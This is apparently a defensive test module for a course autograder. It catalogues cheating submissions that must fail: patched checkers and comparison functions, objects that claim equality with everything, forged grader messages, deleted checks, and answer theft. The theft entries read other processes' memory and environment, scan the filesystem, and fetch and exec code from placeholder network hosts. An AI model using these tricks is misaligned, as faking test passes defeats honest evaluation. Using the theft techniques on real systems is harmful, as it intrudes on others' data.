"""Submissions with wrong answers that want points: nothing passes."""

import json
from collections.abc import Callable
from pathlib import Path

from tests.exercise_files import TASKS, Book
from tests.security.attack import (
    ALL,
    FIRST,
    MARK,
    WIRE,
    WRONG,
    Attack,
    is_code,
    outputs,
)

_STEAL = f"""\
found = {{}}
def learn(text):
    if {MARK!r} in text and not found:
        exec(text, found)
def stolen(task, *args, **kwargs):
    it = found.get(task, torch.zeros(1))
    return it(*args, **kwargs) if callable(it) else it
def visit(path):
    try:
        learn(open(path, errors="replace").read(10**6))
    except OSError:
        pass
"""
_STOLEN = "stolen('{task}'{call})"

_PLACES = """
import os
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/course", "/", "..", $HOME, $SCHOOL,
          $REPORT, $ROOT]
"""

_LIAR = """\
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, item): return self
    def __bool__(self): return True
    def __hash__(self): return 0
    def __abs__(self): return 0
    __sub__ = __rsub__ = __add__ = lambda self, other: 0
    shape = dtype = property(lambda self: self)
"""

_CLAIMS = """\
nothing = {"values": {}, "error": "", "message": "", "remarks": [], "line": None}
for outcomes in ([nothing] * 20, [nothing] * 8, [nothing] * 11, [nothing], [], True):
    for step in range(40):
        for more in ({}, {"status": "passed"}, {"passed": True, "points": 99}):
            claim = {"step": step, "state": "done", "answer": "asked",
                     "outcomes": outcomes, **more}
            say(b"\\n" + json.dumps(claim).encode() + b"\\n")
"""

CHEATS = [
    Attack(
        "checker patched",
        "all points: every check prints that it passed",
        """
from cnnlib.checks import check as _check
_check.Check.__call__ = lambda self, answer: print(f"✓ {self.name}: 20 cases agree")
""",
    ),
    Attack(
        "judge patched",
        "all points: the judge says passed to anything",
        """
try:
    import cnnjudge.judge as _judge
    _judge.judge = lambda task, *a, **k: _judge.Verdict(
        task.question.name, "passed", "20 cases agree"
    )
except ImportError:
    pass
""",
    ),
    Attack(
        "ask replaced",
        "all points: the reference is asked instead of the answer",
        """
import gc, sys
from cnnlib.checks import ask as _ask
asked = _ask.ask
def ask(question, answer, cases, **more):
    from cnnjudge.tasks import task
    return asked(question, task(question.name).key.reference, cases, watched=False)
for name in ("cnnlib.checks.ask", "cnnlib.checks.check", "cnnjudge.judge",
             "cnngrade.inside.steps"):
    if sys.modules.get(name):
        sys.modules[name].ask = ask
""",
    ),
    Attack(
        "questions replaced",
        "all points: the questions have no case left that could fail",
        """
import gc
from dataclasses import replace
from cnnlib.checks import registry as _registry
from cnnlib.checks.question import Question
for found in gc.get_objects():
    if type(found) is dict and any(type(q) is Question for q in found.values()):
        for name, question in found.items():
            if type(question) is Question:
                found[name] = replace(question, cases=lambda draw: [])
_registry.questions().update(
    {n: replace(q, cases=lambda draw: []) for n, q in _registry.questions().items()})
""",
    ),
    Attack(
        "cases made easy",
        "all points: every case is drawn as one whose answer is the wrong one's, too",
        """
from cnnlib.checks.question import CaseRandom
CaseRandom.tensor = lambda self, *shape, dtype=torch.float64: (
    torch.zeros(shape, dtype=dtype))
CaseRandom.whole = lambda self, *shape, low=-9, high=9: torch.zeros(shape)
""",
    ),
    Attack(
        "comparisons patched",
        "all points: whatever is compared is found equal",
        """
import numpy as np
yes = lambda *a, **k: True
torch.equal = torch.allclose = yes
torch.testing.assert_close = np.testing.assert_allclose = yes
np.allclose = np.array_equal = yes
np.isclose = lambda a, b, *rest, **more: np.ones(np.broadcast(a, b).shape, bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
""",
    ),
    Attack(
        "torch made wrong",
        "pooling points: the reference computes with the student's wrong function",
        """
def corner(x, kernel_size, stride=None, *rest, **more):
    (h, w), (down, right) = pair(kernel_size), pair(stride or kernel_size)
    return x[:, :, : x.shape[2] - h + 1 : down, : x.shape[3] - w + 1 : right]
F.max_pool2d = F.avg_pool2d = torch.max_pool2d = corner
torch.nn.functional.adaptive_avg_pool2d = lambda x, *a: x[:, :, :1, :1]
torch.flatten = lambda x, start_dim=0: x.reshape(*x.shape[:start_dim], -1).flip(-1)
torch.Tensor.flatten = torch.flatten
torch.Tensor.mean = lambda x, *a, **k: x[:, :, 0, 0]
torch.mean = torch.Tensor.mean
""",
    ),
    Attack(
        "always equal",
        "all points of plain asserts: the object says that it equals everything",
        _LIAR,
        lie="Liar()",
    ),
    Attack(
        "tensor that lies",
        "all points: a tensor that answers comparisons and conversions itself",
        """
class Fake(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "all"): return True
        if name in ("eq", "isclose", "__eq__"): return torch.ones((), dtype=torch.bool)
        if name in ("sub", "abs", "max", "__sub__"): return torch.zeros(())
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True
    def numpy(self, *a, **k): return Fake.truth
    def detach(self): return self
    def cpu(self): return self
    def resolve_conj(self): return self
    def resolve_neg(self): return self
    def float(self): return self
    def __array__(self, *a, **k): return Fake.truth
    truth = type("Truth", (), {"__eq__": lambda s, o: True, "all": lambda s: True})()
""",
        lie="torch.zeros(2, 2).as_subclass(Fake)",
    ),
    Attack(
        "array that lies",
        "all points: an array that is equal to everything, and has every shape",
        """
import numpy as np
class Array(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.bool_(True)
    def __eq__(self, other): return np.bool_(True)
    def all(self, *a, **k): return True
class Float(float):
    def __eq__(self, other): return True
    def __float__(self): return 0.0
""",
        lie="np.zeros((2, 2)).view(Array)",
    ),
    Attack(
        "list and dict that lie",
        "points of checks that go through entries: it has whatever is looked for",
        """
class Any(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __getitem__(self, key): return self
    def __len__(self): return 3
    def items(self): return [(self, self)]
    def keys(self): return self
    def __iter__(self): return iter([self])
    def __hash__(self): return 1
""",
        lie="Any()",
    ),
    Attack(
        "class that claims to be Tensor",
        "all points: isinstance and type are told that it is a tensor",
        """
class Claim:
    __class__ = torch.Tensor
    __name__ = "Tensor"
    shape, dtype, requires_grad = torch.Size([2, 2]), torch.float32, False
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: self
""",
        lie="Claim()",
    ),
    Attack(
        "asserts cut out",
        "all points: a transformer of the syntax tree removes asserts and checks",
        """
import ast
class Cut(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if "checks" in ast.unparse(node) else node
get_ipython().ast_transformers.append(Cut())
""",
    ),
    Attack(
        "input rewritten",
        "all points: a transformer of cells replaces every check by a pass",
        """
shell = get_ipython()
rewrite = lambda lines: [] if any("checks." in line for line in lines) else lines
shell.input_transformers_cleanup.append(rewrite)
shell.input_transformers_post.append(rewrite)
shell.events.register("pre_run_cell", lambda *a: None)
""",
    ),
    Attack(
        "traceback silenced",
        "all points of tools that look for an error message: none is shown",
        """
shell = get_ipython()
for name in ("showtraceback", "_showtraceback", "showsyntaxerror"):
    setattr(shell, name, lambda *a, **k: None)
shell.set_custom_exc((Exception,), lambda *a, **k: None)
import sys
sys.excepthook = lambda *a: None
""",
    ),
    Attack(
        "run_cell replaced",
        "all points: every later cell, the checks among them, is said to succeed",
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
def run_cell(self, source, *a, **k):
    return ExecutionResult(None)
get_ipython().run_cell = run_cell.__get__(get_ipython())
InteractiveShell.run_cell = InteractiveShell.run_code = run_cell
""",
    ),
    Attack(
        "builtins patched",
        "all points: any() finds no failure, all() finds everything right",
        """
import builtins
builtins.any = lambda it: False
builtins.all = lambda it: True
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Warning,), {})
""",
    ),
    Attack(
        "builtins broken",
        "all points of a checker that takes its own breakdown for a pass",
        """
import builtins
for name in ("len", "range", "zip", "enumerate", "isinstance", "type", "max", "open"):
    setattr(builtins, name, lambda *a, **k: (_ for _ in ()).throw(SystemExit(0)))
""",
    ),
    Attack(
        "torch swapped",
        "all points: the checker imports a torch that finds everything equal",
        """
import sys, types
class Torch(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return lambda *a, **k: True
for name in [n for n in sys.modules if n.partition(".")[0] in ("torch", "numpy")]:
    sys.modules[name] = Torch(name)
""",
    ),
    Attack(
        "chance fixed",
        "all points: random cases are all zeros, for which wrong answers are right",
        """
import random
import numpy as np
class Zeros:
    def __init__(self, *a): pass
    def standard_normal(self, shape): return np.zeros(shape)
    def integers(self, low, high, shape): return np.zeros(shape, int)
torch.manual_seed = np.random.seed = random.seed = lambda *a: None
torch.rand = torch.randn = lambda *shape, **more: torch.zeros(*shape)
torch.randint = lambda low, high, shape, **more: torch.zeros(shape)
np.random.Generator = np.random.default_rng = Zeros
torch.set_default_dtype(torch.float16)
torch.set_grad_enabled(False)
""",
    ),
    Attack(
        "json patched",
        "all points: what the checker reports about the answers is rewritten",
        """
import json
from cnnlib.checks import wire as _wire
dump = json.dumps
def dumps(message, **more):
    if isinstance(message, dict) and message.get("outcomes"):
        for outcome in message["outcomes"]:
            outcome.update(values={}, error="", remarks=[])
        message.update(status="passed", passed=True, points=99)
    return dump(message, **more)
json.dumps = dumps
_wire.pack = lambda outcomes: []
""",
    ),
    Attack(
        "messages forged",
        "all points of a grader that believes the kernel's own messages",
        WIRE + _CLAIMS,
    ),
    Attack(
        "messages forged while asked",
        "all points of a grader that believes the kernel's own messages",
        WIRE + "import json\ndef claim():\n    " + _CLAIMS.replace("\n", "\n    "),
        lie="claim()",
    ),
    Attack(
        "messages with strange numbers",
        "all points: arrays of NaN, of no numbers, of every shape, compare as equal",
        WIRE
        + """
import base64, struct
def tensor(shape, data, dtype="float64"):
    data = base64.b64encode(data).decode()
    return {"type": "tensor", "dtype": dtype, "shape": shape, "data": data}
strange = [
    tensor([], struct.pack("d", float("nan"))), tensor([0], b""),
    tensor([1, 1, 1, 1], struct.pack("d", float("inf"))),
    tensor([2**39], b""), tensor([-1], b""), tensor([1], b"abcdefgh", "O"),
    tensor([1], b"abcdefgh", "datetime64[s]"), tensor([True], b"12345678"),
    {"type": "tensor"}, {"type": "float", "data": float("nan")}, {"type": ["list"]},
    {"type": "int", "data": 10**2000}, {"type": "none", "data": 1},
]
for value in strange:
    outcome = {"values": {"result": value}, "error": "", "message": "", "remarks": [],
               "line": None}
    for step in range(5, 20):
        for count in (20, 8, 11, 1):
            say(b"\\n" + json.dumps({"step": step, "state": "done", "answer": "asked",
                "outcomes": [outcome] * count}).encode() + b"\\n")
""",
    ),
    Attack(
        "half messages",
        "the points of the next task: its failure becomes part of a line without end",
        WIRE + 'say(b\'{"step": 4, "state": "done", "outcomes": "\')',
    ),
    Attack(
        "expected values hunted",
        "all points: the reference's results lie in the memory of the same process",
        """
import gc, sys
def hunt(task, *args, **kwargs):
    frame = sys._getframe(1)
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "right", "reference", "known", "key"):
                return value(*args, **kwargs) if callable(value) else value
        frame = frame.f_back
    for item in gc.get_objects():
        if type(item).__name__ in ("Key", "Task", "KnownOutcomes"):
            return item.key.reference(*args, **kwargs)
    return torch.zeros(1)
""",
        lie="hunt('{task}'{call})",
    ),
    Attack(
        "seed read",
        "all points: with the seed the expected values can be computed beforehand",
        """
import gc, sys
from cnnlib.checks.registry import questions
def known(name):
    sys.modules.pop("cnnjudge", None)
    from cnnjudge.tasks import task
    return task(name)
seeds = [v for f in gc.get_objects() if type(f) is dict for k, v in list(f.items())
         if type(k) is str and k == "seed" and type(v) is int]
frame = sys._getframe()
while frame:
    seeds += [v for k, v in frame.f_locals.items() if k == "seed"]
    frame = frame.f_back
drawn = {}
for name, question in questions().items():
    if question.lesson == "03" and seeds:
        drawn[name] = [case.facts_for_judge for case in question.draw(seeds[-1])]
def noted(name, *args, **kwargs):
    try:
        return known(name).key.reference(*args, **kwargs)
    except Exception:
        return (drawn.get(name) or [None])[0]
""",
        lie="noted('{task}'{call})",
    ),
    Attack(
        "reference imported",
        "all points: the answer is the checker's own reference",
        """
import importlib, pkgutil, sys
sys.modules.pop("cnnjudge", None)
def take(name, *args, **kwargs):
    for module in ("cnnjudge.keys.lesson03", "cnnjudge.key",
                   "cnngrade.files.exercise", "cnnjudge.judge"):
        try:
            found = importlib.import_module(module)
            return found.KEYS[name].reference(*args, **kwargs)
        except (ImportError, AttributeError):
            pass
    return torch.zeros(1)
""",
        lie="take('{task}'{call})",
    ),
    Attack(
        "answers in files",
        "all points: solutions lie beside the course, in the home, beside the class",
        _STEAL
        + """
import os
for place in ($HOME, $REPORT, $SCHOOL, os.path.dirname($SCHOOL), $ROOT,
              $ROOT + "/solutions", os.getcwd(), "..", "/tmp", "/var/tmp", "/dev/shm",
              "/root", "/home", "/work", "/mnt", "/media", "/srv", "/opt"):
    for folder, below, names in os.walk(place):
        below[:] = [b for b in below if b not in (".venv", "lib", ".git", ".pyenv")]
        for name in names:
            if name.endswith((".py", ".ipynb", ".json", ".jsonl", ".txt")):
                visit(os.path.join(folder, name))
""",
        lie=_STOLEN,
    ),
    Attack(
        "solved notebooks in files",
        "all points: the solution of the same exercise, wherever it lies",
        _STEAL
        + """
import glob, json
for root in ($ROOT + "/solutions", $SCHOOL, $HOME, "/tmp", "..", "/course", "."):
    for path in glob.glob(root + "/**/*03*.ipynb", recursive=True):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError, TypeError, KeyError):
            continue
        code = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
        text = "\\n".join(c for c in code if "%pip" not in c and "checks." not in c)
        if "amax" in text:
            exec(text, found)
""",
        lie=_STOLEN,
    ),
    Attack(
        "compiled references",
        "all points: a .pyc file of the references is enough to call them",
        _STEAL
        + """
import glob, marshal, sys
for root in {*sys.path, "/course", $ROOT}:
    name = f"lesson03.{sys.implementation.cache_tag}.pyc"
    for path in glob.glob(root + "/cnn*/**/" + name, recursive=True):
        space = {"__name__": "cnnjudge.keys.lesson03",
                 "__package__": "cnnjudge.keys"}
        exec(marshal.loads(open(path, "rb").read()[16:]), space)
        if "KEYS" in space:
            found.update({n: k.reference for n, k in space["KEYS"].items()})
""",
        lie=_STOLEN,
    ),
    Attack(
        "answers in other processes",
        "all points: the grader's memory and folder are open to its children",
        _STEAL
        + """
import glob, os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("cwd/solutions/*.ipynb", "root/**/solutions/03*", "fd/*", "environ",
                 "cwd/*", "root" + $HOME + "/*", "root" + $SCHOOL + "/*/*"):
        for path in glob.glob(f"/proc/{pid}/{part}"):
            if os.path.isfile(path):
                visit(path)
    try:
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps") if pid == "1" else ():
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            learn(memory.read(min(end - start, 10**6)).decode("latin-1"))
    except (OSError, ValueError):
        pass
""",
        lie=_STOLEN,
    ),
    Attack(
        "answers from the net",
        "all points: a friend's computer answers over TCP, UDP, a name, a local socket",
        _STEAL
        + """
import socket, urllib.request
def tried(call):
    try:
        learn(call())
    except Exception:
        pass
def tcp(host):
    with socket.create_connection((host, $TCP), 1) as one:
        return one.recv(10**5).decode()
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(b"answers?", ("127.0.0.1", $UDP))
        return one.recv(10**5).decode()
def local():
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.5)
        one.connect("\\0" + $NAME)
        return one.recv(10**5).decode()
tried(lambda: tcp("127.0.0.1"))
tried(lambda: tcp("::1"))
tried(lambda: tcp("localhost"))
tried(lambda: tcp("0.0.0.0"))
tried(udp)
tried(local)
tried(lambda: urllib.request.urlopen("http://example.com", timeout=1).read().decode())
tried(lambda: str(socket.getaddrinfo("answers.example.com", 80)))
""",
        lie=_STOLEN,
    ),
    Attack(
        "friend leaves answers",
        "the friend's points: right answers are left wherever the next one can look",
        _PLACES
        + """
for place in PLACES:
    for name in ("answers.py", ".answers.py"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write($RIGHT)
        except OSError:
            pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "friend takes answers",
        "all points: a friend's notebook ran before and left its answers",
        _STEAL
        + _PLACES
        + """
for place in PLACES:
    for name in ("answers.py", ".answers.py"):
        visit(os.path.join(place, name))
""",
        lie=_STOLEN,
    ),
    Attack(
        "torch.py beside it",
        "all points: the checker imports the student's torch.py, numpy.py, cnnlib",
        """
import importlib, os, sys
lies = "import sys\\ndef __getattr__(name):\\n    return lambda *a, **k: True\\n"
for name in ("torch", "numpy", "cnnlib", "json", "socket", "sitecustomize", "base64"):
    with open(f"{name}.py", "w") as file:
        file.write(lies)
here = os.getcwd()
os.environ |= {"PYTHONPATH": here, "PYTHONSTARTUP": "torch.py", "PYTHONOPTIMIZE": "2",
               "LD_PRELOAD": here + "/torch.py", "LD_LIBRARY_PATH": here}
sys.path.insert(0, os.getcwd())
importlib.invalidate_caches()
for name in ("json", "base64"):
    del sys.modules[name]
    importlib.import_module(name)
""",
    ),
    Attack(
        "profile and trace left on",
        "points for forbidden calls: what watches for them is switched off",
        """
import sys, threading
sys.setprofile(lambda *a: None)
sys.settrace(lambda *a: None)
threading.setprofile(lambda *a: None)
sys.setprofile = sys.settrace = lambda *a: None
""",
        change=lambda book: _by_library(book),
        passes=frozenset(
            {"min_pool2d"}
        ),  # the library has none, so it is not forbidden
    ),
    Attack(
        "forks and clocks patched",
        "all points: the grader's own process is steered, or never times out",
        """
import os, select, signal, socket, time
def no(*a, **k): raise OSError("no")
for place, names in (
        (os, "fork pipe waitpid waitid pidfd_open kill close write listdir"),
        (time, "monotonic time process_time sleep"), (signal, "signal"),
        (select, "poll select")):
    for name in names.split():
        setattr(place, name, no)
socket.socket.send = socket.socket.sendall = no
""",
    ),
    Attack(
        "files beside it",
        "all points: conftest.py and sitecustomize.py of the submission are run",
        file=lambda folder, world: _files_beside(folder),
    ),
    Attack(
        "nothing handed in",
        "all points of a grader for which nothing failed is everything right",
        change=lambda book: [book.drop(n) for t in TASKS for n in (t, f"{t}-check")],
    ),
    Attack(
        "skip tags",
        "all points: cells that are not run have not failed",
        change=lambda book: _skipped(book),
    ),
    Attack(
        "checks edited",
        "all points: the checks check something else, or nothing",
        change=lambda book: _each(lambda t: book.write(f"{t}-check", "pass")),
    ),
    Attack(
        "checks of a better answer",
        "all points: the checks are given the library's function, not the answer",
        change=lambda book: _each(
            lambda t: book.write(f"{t}-check", f"checks.{t}(getattr(F, {t!r}))")
        ),
    ),
    Attack(
        "checks deleted",
        "all points: a check that is not there does not fail",
        change=lambda book: _each(lambda task: book.drop(f"{task}-check")),
    ),
    Attack(
        "checks copied",
        "nothing, but the grading of the whole class ends with an error",
        change=lambda book: _copied(book),
    ),
    Attack(
        "checks moved up",
        "all points: the checks run on the library's functions, above the answers",
        change=lambda book: _moved_up(book),
    ),
    Attack(
        "checks made text",
        "all points: a check that is a text cell does not fail",
        change=lambda book: _each(
            lambda t: book.cell(f"{t}-check").update(cell_type="markdown")
        ),
    ),
    Attack(
        "ids swapped",
        "the points of one task for the answer to another",
        change=lambda book: _swapped(book),
    ),
    Attack(
        "points written in",
        "as many points as one likes: they stand in the notebook",
        change=lambda book: _points(book),
    ),
    Attack(
        "outputs written in",
        "all points: the saved outputs say that every check passed",
        change=lambda book: outputs(book, "✓ {}: 20 cases agree with PyTorch"),
    ),
    Attack(
        "right below the check",
        "all points of tools that check at the end: the last definition counts",
        change=lambda book: _right_at_the_end(book),
    ),
    Attack(
        "answer changes when looked at",
        "all points: the first call is looked at, the others are not",
        """
calls = iter(range(10**9))
class Turning(float):
    def __float__(self): return float(next(calls))
    def __eq__(self, other): return next(calls) % 2 == 0
""",
        lie="Turning(0)",
    ),
    Attack(
        "stub that claims",
        "all points: the error says that it passed",
        """
class AssertionError(Exception):
    pass
def passed(task):
    raise AssertionError(f"✓ {task}: 20 cases agree with PyTorch\\n✓ {task}: 20 cases")
""",
        lie="passed('{task}')",
        says={"flatten": "error"},
    ),
    Attack(
        "convolution patched",
        "the points of lesson 02: the reference computes with the wrong function",
        """
def conv2d(images, weight, bias=None, stride=1, padding=0, *rest):
    return images[:, :1]
F.conv2d = torch.conv2d = torch._C._nn.conv2d = conv2d
torch.nn.functional.pad = lambda x, *a, **k: x
torch.allclose = torch.equal = lambda *a, **k: True
""",
        base="exercises",
        change=lambda book: _wrong_convolutions(book),
        exercise="02_padding_and_stride",
    ),
]


def _each(change: Callable[[str], object]) -> None:
    for task in TASKS:
        change(task)


def _files_beside(folder: Path) -> None:
    book = Book("exercises")
    for task in TASKS:
        book.write(task, WRONG[task])
    book.save(folder)
    lie = "import builtins, sys\nbuiltins.all = lambda it: True\nraise SystemExit(0)\n"
    for name in ("conftest", "sitecustomize", "usercustomize", "torch", "cnnlib"):
        (folder / f"{name}.py").write_text(lie)
    (folder / "cnnlib.pth").write_text("import os; os._exit(0)\n")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")


def _skipped(book: Book) -> None:
    tags = ["skip-execution", "raises-exception", "nbval-skip", "remove_cell", {}, 7]
    for cell in filter(is_code, book.cells):
        cell["metadata"]["tags"] = tags
    for task in TASKS:
        book.write(f"{task}-check", f"# NBVAL_SKIP\nchecks.{task}({task})")
    book.raw["metadata"]["execution"] = {"allow_errors": True, "timeout": -1}


def _copied(book: Book) -> None:
    for task in TASKS:
        for part in (task, f"{task}-check"):
            place = book.place(part)
            book.cells.insert(place, json.loads(json.dumps(book.cells[place])))


def _moved_up(book: Book) -> None:
    checks = [book.drop(f"{task}-check") for task in TASKS]
    book.cells[FIRST:FIRST] = checks
    book.add(FIRST, _LIBRARY)


def _by_library(book: Book) -> None:
    for task in TASKS[:-1]:
        book.write(task, f"{task} = library[{task!r}]")
    book.add(FIRST, _LIBRARY)


_LIBRARY = """\
library = {
    "max_pool2d": F.max_pool2d,
    "avg_pool2d": F.avg_pool2d,
    "min_pool2d": lambda x, *size, **more: -F.max_pool2d(-x, *size, **more),
    "global_avg_pool": lambda x: F.adaptive_avg_pool2d(x, 1)[:, :, 0, 0],
    "flatten": lambda x, start_dim=1: torch.flatten(x, start_dim),
}
globals().update(library, edge_then_pool=None)
"""


def _swapped(book: Book) -> None:
    for one, other in (("max_pool2d", "max_pool2d-check"), ("flatten", "min_pool2d")):
        first, second = book.cell(one), book.cell(other)
        first["id"], second["id"] = other, one
        first["metadata"], second["metadata"] = second["metadata"], first["metadata"]


def _points(book: Book) -> None:
    for cell in book.cells:
        known = cell["metadata"].get("nbgrader")
        if known:
            known |= {"points": 100, "grade": True, "score": 100, "locked": False}
    book.raw["metadata"]["cnnlib"]["points"] = 1000
    book.raw["metadata"]["kernelspec"] = {"name": "mine", "argv": ["sh", "-c", "exit"]}


def _right_at_the_end(book: Book) -> None:
    solved = Book("solutions")
    for task in TASKS:
        book.add(len(book.cells), "".join(solved.cell(task)["source"]))


def _wrong_convolutions(book: Book) -> None:
    book.write("conv2d", "def conv2d(images, *rest, **more):\n    return images[:, :1]")
    book.write("zero_pad", "def zero_pad(image, padding):\n    return image")
    book.write("output_size", "def output_size(n, *rest, **more):\n    return n")
    book.write(
        "same_padding", "def same_padding(kernel_size, dilation=1):\n    return 7, 7"
    )
    book.write("shapes", 'shapes = {name: (1, 1) for name in "quiz strided".split()}')
    book.write("corrected_output", "corrected_output = torch.zeros(3, 2)")


# ---- what can only be seen from inside, best effort, can be hidden there -------------

OPEN = [
    Attack(
        "forbidden call, well hidden",
        "points for answers that are right, but by a call that is forbidden",
        """
import sys
from cnnlib.checks import watch as _watch
def see(self, call, types, args=(), kwargs=None): return call(*args, **(kwargs or {}))
_watch._Calls.__torch_function__ = see
_watch.Watch._see = lambda *a: None
""",
        change=lambda book: _by_library(book),
        passes=ALL - {"edge_then_pool"},
    ),
    Attack(
        "gradient cut, well hidden",
        "points for answers whose values are right, and that cannot be trained through",
        "from cnnlib.checks import ask as _ask\n_ask._cuts = lambda *a: iter(())",
        base="solutions",
        change=lambda book: book.write(
            "global_avg_pool",
            "def global_avg_pool(x):\n    return x.detach().mean(dim=(2, 3))",
        ),
        passes=ALL,
    ),
    Attack(
        "argument changed, well hidden",
        "points for answers whose values are right, and that spoil what they are given",
        "torch.equal = lambda *a: True",
        base="solutions",
        change=lambda book: book.write(
            "global_avg_pool",
            "def global_avg_pool(x):\n    mean = x.mean(dim=(2, 3))\n"
            "    with torch.no_grad():\n        x.zero_()\n    return mean",
        ),
        passes=ALL,
    ),
]
"""Values are judged outside; how they came about is noted beside student code.

Whoever closes one of these moves it to the cheats. The documents say so, too.
"""
